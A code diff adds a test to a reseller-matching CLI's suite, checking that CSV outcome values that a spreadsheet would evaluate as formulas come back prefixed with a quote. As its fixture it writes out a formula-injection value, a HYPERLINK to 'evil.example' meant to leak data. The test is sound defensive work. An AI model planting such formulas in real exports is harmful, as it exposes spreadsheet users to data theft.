@@ -164,3 +164,18 @@ def test_an_unreadable_file_is_an_error_naming_the_line(
     headless.write_text("distributor_id,name\nD9,Acme\n")
     assert main(cli(app, "match", str(headless), "--dry-run", token="adm")) == 2
     assert "line 1: the header lacks reseller_id, country" in capsys.readouterr().err
+
+
+def test_an_outcome_a_spreadsheet_would_evaluate_is_written_as_text(
+    app: LiveApp, tmp_path: Path, capsys
+) -> None:
+    """The file's ids come back in the outcomes, which people open in a spreadsheet: one
+    that reads as a formula gets a quote in front (streams/audit/safe_csv.py)."""
+    link = '=HYPERLINK("http://evil.example/?leak","open")'
+    rows = [["-2+3", link, "Quite Different", "US", "94105", ""]]
+    source, out = write_csv(tmp_path / "resellers.csv", rows), tmp_path / "outcomes.csv"
+    main(cli(app, "match", str(source), "--out", str(out), "--dry-run", token="adm"))
+    capsys.readouterr()
+    [outcome] = list(csv.DictReader(out.open()))
+    assert (outcome["distributor_id"], outcome["reseller_id"]) == ("'-2+3", "'" + link)
+    assert (outcome["line"], outcome["outcome"]) == ("2", "new")
